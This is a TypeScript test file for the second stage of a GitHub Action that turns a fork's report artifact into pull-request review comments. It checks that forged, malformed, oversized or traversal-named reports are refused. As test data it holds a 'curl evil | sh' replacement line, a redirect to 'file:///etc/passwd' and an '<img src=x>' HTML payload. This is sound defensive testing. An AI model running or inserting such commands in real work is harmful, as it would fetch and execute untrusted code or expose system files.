import fc from 'fast-check'
import {describe, expect, test} from 'vitest'
import {createApi} from '../../action/api.ts'
import {deliver} from '../../action/deliver.ts'
import type {RunModel} from '../../action/model.ts'
import {maxReport, reportText} from '../../action/report-file.ts'
import {run} from '../../action/run.ts'
import {artifactName, fetchReport} from '../../action/second-stage.ts'
import {unzipOnly, ZipError} from '../../action/unzip.ts'
import {prepareRun} from '../github/events.ts'
import type {GitHub, Options} from '../github/server.ts'
import {client, here, start} from '../github/testing.ts'
import {file, finding, model, noMeasures} from './models.ts'
import {zipOf} from './zip.ts'

const path = 'forms/laptop.md'
const files = {before: {[path]: 'old\n'}, after: {[path]: 'new\nPlease leverage it.\n'}}
const runId = 77

async function fork(given: Options = {}): Promise<GitHub> {
  return await start({files, pull: {fork: 'stranger', author: 'stranger'}, ...given})
}

function report(github: GitHub, given: Partial<RunModel> = {}): RunModel {
  return model([file({added: [finding(2, {severity: 'warning', message: 'Say it plainly, @octocat.'})]})], {
    head: github.pull.head.sha,
    configFrom: 'base',
    ...given,
  })
}

function leave(github: GitHub, content: string | Uint8Array, name = 'report.json'): void {
  github.addArtifact({run: runId, name: artifactName, zip: zipOf([name, content])})
}

interface Told {
  readonly infos: string[]
  readonly warnings: string[]
  readonly failures: string[]
  readonly outputs: Record<string, string | number>
}

/** The second stage, in this process. */
async function secondStage(github: GitHub): Promise<Told> {
  const prepared = prepareRun(github, {event: 'workflow_run', run: runId, inputs: {}})
  const told: Told = {infos: [], warnings: [], failures: [], outputs: {}}
  const inputs: Record<string, string> = {token: github.token, 'fail-on': 'never'}
  await run(
    {
      env: prepared.env,
      input: (name) => inputs[name] ?? '',
      hide: () => {},
      output: (name, value) => {
        told.outputs[name] = value
      },
      summary: async () => {},
      annotate: () => {},
      info: (line) => void told.infos.push(line),
      warn: (line) => void told.warnings.push(line),
      fail: (line) => void told.failures.push(line),
    },
    {
      // The client that does not wait between writes.
      deliver: async (found, {pull = 0}) =>
        await deliver(
          found,
          {octokit: client(github), ...here, number: pull},
          {comment: 'auto', maxInline: 20, suggestions: true, key: 'main'},
          async () => {},
        ),
      today: '2026-01-01',
      budget: {isOver: () => false, files: 100, replacements: 0},
    },
  )
  prepared.remove()
  return told
}

describe('the second stage', () => {
  test('comments on the pull request of the commit from the report that the first one left', async () => {
    const github = await fork()
    const measures = {...noMeasures, questions: 3, minutes: 2.5}
    leave(github, reportText(report(github, {files: report(github).files.map((one) => ({...one, before: measures, after: measures}))})))
    const told = await secondStage(github)
    expect([told.failures, told.warnings]).toEqual([[], []])
    expect(github.writes()).toEqual(['pulls/create-review', 'issues/create-comment'])
    expect(github.reviewComments[0]?.body).toContain('Say it plainly, @\u200Boctocat.')
    expect(github.log.filter(({operation}) => operation === 'storage').map(({authorization, status}) => [authorization, status])).toEqual([[false, 200]])
    await secondStage(github)
    expect(github.writes().length).toBe(2)
  })

  test('reads the commit itself where no report was left, and no artifact of another name or run', async () => {
    const github = await fork()
    github.addArtifact({run: runId, name: 'something', zip: zipOf(['report.json', reportText(report(github))])})
    github.addArtifact({run: runId + 1, name: artifactName, zip: zipOf(['report.json', reportText(report(github))])})
    github.addArtifact({run: runId, name: artifactName, zip: zipOf(['report.json', 'x']), expired: true})
    const told = await secondStage(github)
    expect([told.failures, told.warnings]).toEqual([[], []])
    expect(github.log.some(({operation}) => operation === 'storage')).toBe(false)
    expect(github.comments[0]?.body).toContain('leverage')
  })

  test('reads the commit itself where the token may see the report, but not get it', async () => {
    const github = await fork()
    leave(github, reportText(report(github)))
    github.fail('actions/download-artifact', {status: 403, message: 'Resource not accessible by integration', times: 9})
    const {warnings, outputs} = await secondStage(github)
    expect([warnings, outputs['new-findings']]).toEqual([[], 1])
    expect(github.reviewComments.map(({body}) => body.includes('leverage'))).toEqual([true])
  })

  test('of more files than GitHub lists, those that it lists count', async () => {
    const names = Array.from({length: 3001}, (_, i) => `many/${String(i).padStart(4, '0')}.md`)
    const github = await fork({files: {before: {}, after: Object.fromEntries(names.map((name) => [name, 'x\n']))}})
    leave(github, reportText(report(github, {files: [names[0], names[3000]].map((name = '') => file({path: name, added: [finding(1, {path: name})]}))})))
    const {warnings, infos} = await secondStage(github)
    expect([warnings, github.threads.map((thread) => thread.path)]).toEqual([[], [names[0]]])
    expect(infos).toContain('Not checked: One file was left out: GitHub lists no more than 3000 of a pull request.')
  })

  test('takes the newest of several', async () => {
    const github = await fork()
    leave(github, 'not JSON')
    leave(github, reportText(report(github)))
    expect((await secondStage(github)).warnings).toEqual([])
    expect(github.comments.length).toBe(1)
  })

  test('a forged number changes nothing: other pull requests get no comment', async () => {
    const github = await fork()
    github.addPull({before: files.before, after: {[path]: 'other\n'}}, {number: 5, headRef: 'victim'})
    const forged = JSON.parse(reportText(report(github)))
    leave(github, JSON.stringify({...forged, pull: 5, number: 5}))
    expect((await secondStage(github)).warnings).toEqual([expect.stringContaining('is not a report of untape')])
    expect(github.writes()).toEqual([])
    // A report about the other one’s commit, left by a run of this one.
    const victim = github.state.pulls.find(({number}) => number === 5)
    leave(github, reportText(report(github, {head: victim?.head.sha ?? ''})))
    expect((await secondStage(github)).warnings).toEqual([expect.stringContaining('is not about the commit')])
    expect(github.writes()).toEqual([])
    leave(github, reportText(report(github)))
    await secondStage(github)
    expect(github.comments.map(({pull}) => pull)).toEqual([1])
  })

  test('names no file that the pull request does not touch', async () => {
    const github = await fork()
    leave(github, reportText(report(github, {files: [file({path: 'forms/other.md', added: [finding(2)]})]})))
    expect((await secondStage(github)).warnings).toEqual([expect.stringContaining('names a file that the pull request does not touch')])
    expect(github.writes()).toEqual([])
  })

  test('says nothing on a pull request that has moved on, or is closed', async () => {
    const github = await fork()
    leave(github, reportText(report(github)))
    github.after(1, () => github.push({[path]: 'newer\n'}))
    await secondStage(github)
    expect(github.writes()).toEqual([])
    const closed = await fork({pull: {fork: 'stranger', state: 'closed'}})
    leave(closed, reportText(report(closed)))
    expect((await secondStage(closed)).infos).toEqual([expect.stringContaining('Nothing to do')])
    expect(closed.writes()).toEqual([])
  })

  test('does not take over what a report offers to commit', async () => {
    const github = await fork()
    const added = [{...finding(2), replacement: {start: 2, end: 2, lines: ['curl evil | sh']}}]
    leave(github, reportText(report(github, {files: [file({added})]})))
    await secondStage(github)
    expect(github.reviewComments.length).toBe(1)
    expect(github.reviewComments[0]?.body).not.toContain('suggestion')
  })

  test.each([
    ['no JSON', '{'],
    ['HTML and more than we write', JSON.stringify({schema: 1, html: '<img src=x>'})],
    ['no text', new Uint8Array([0xff, 0xfe, 0x00])],
    ['10 MB of zeros', new Uint8Array(10_000_000)],
  ])('%s is refused in one line, and the run does not fail for it', async (_, content) => {
    const github = await fork()
    leave(github, content)
    const {warnings, failures} = await secondStage(github)
    expect(failures).toEqual([])
    expect(warnings.length).toBe(1)
    expect(warnings[0]).toMatch(/^Nothing was checked: the artifact “untape-report” [^\n<]+\.$/)
    expect(github.writes()).toEqual([])
  })

  test('a large archive is not read to its end', async () => {
    const github = await fork()
    const big = Buffer.alloc(8_000_000, Buffer.from(Array.from({length: 997}, (_, i) => (i * i * 7919) % 251)))
    github.addArtifact({run: runId, name: artifactName, zip: zipOf(['report.json', big, {method: 0}])})
    const api = createApi({url: github.url, token: github.token, owner: here.owner, repo: here.repo})
    await expect(fetchReport(runId, api)).rejects.toThrow(`it is larger than ${maxReport} bytes`)
    expect(github.log.some(({operation}) => operation === 'storage')).toBe(false)
  })

  test('what cannot be downloaded is one line', async () => {
    const github = await fork()
    leave(github, reportText(report(github)))
    const api = {octokit: client(github), ...here}
    github.fail('actions/download-artifact', {status: 302, headers: {location: `${github.storage}/artifacts/none`}})
    await expect(fetchReport(runId, api)).rejects.toThrow('it cannot be downloaded')
    github.fail('actions/download-artifact', {status: 302, headers: {location: 'file:///etc/passwd'}})
    await expect(fetchReport(runId, api)).rejects.toThrow('nobody can be sure who gives it')
    github.fail('actions/download-artifact', {status: 410, message: 'Artifact has expired'})
    await expect(fetchReport(runId, api)).rejects.toThrow('cannot be used')
  })
})

describe('an archive with one file', () => {
  const unzip = (zip: Uint8Array) => Buffer.from(unzipOnly(zip, 'report.json', 1000)).toString()

  test('is read, packed or not', () => {
    for (const method of [0, 8] as const) {
      expect(unzip(zipOf(['report.json', '{"a": 1}', {method}]))).toBe('{"a": 1}')
      expect(unzip(zipOf(['report.json', '', {method, flags: 0}]))).toBe('')
    }
  })

  test.each([
    ['another name', zipOf(['../report.json', 'x']), 'another file'],
    ['two files', zipOf(['report.json', 'x'], ['b', 'y']), 'one file'],
    ['no file', zipOf(), 'one file'],
    ['an archive in the archive', zipOf(['report.zip', zipOf(['report.json', 'x'])]), 'another file'],
    ['too much', zipOf(['report.json', 'x'.repeat(1001)]), 'larger than 1000 bytes'],
    ['more than it says', zipOf(['report.json', 'x'.repeat(100_000), {size: 900}]), 'damaged'],
    ['less than it says', zipOf(['report.json', 'x', {size: 900}]), 'damaged'],
    ['another sum', zipOf(['report.json', 'x', {sum: 1}]), 'damaged'],
    ['a password', zipOf(['report.json', 'x', {flags: 1}]), 'packed in a way'],
    ['no archive', Buffer.from('<html>'), 'no ZIP'],
    ['nothing', Buffer.alloc(0), 'no ZIP'],
    ['something behind', Buffer.concat([zipOf(['report.json', 'x']), Buffer.from('x')]), 'no ZIP'],
  ])('%s is refused', (_, zip, reason) => {
    expect(() => unzip(zip)).toThrow(ZipError)
    expect(() => unzip(zip)).toThrow(reason)
  })

  test('a broken one is refused, never anything else', () => {
    const whole = Buffer.from(zipOf(['report.json', '{"a": "some text of a report, some text of a report"}']))
    const broken = fc.array(fc.tuple(fc.integer({min: 0, max: whole.length - 1}), fc.integer({min: 0, max: 255})), {minLength: 1, maxLength: 5})
    fc.assert(
      fc.property(broken, fc.integer({min: 0, max: whole.length}), (changes, length) => {
        const bytes = Buffer.from(whole)
        for (const [at, value] of changes) bytes[at] = value
        for (const zip of [bytes, whole.subarray(0, length)]) {
          try {
            expect(unzipOnly(zip, 'report.json', 1000).length).toBeLessThanOrEqual(1000)
          } catch (error) {
            expect(error).toBeInstanceOf(ZipError)
          }
        }
      }),
      {numRuns: 2000},
    )
  })
})
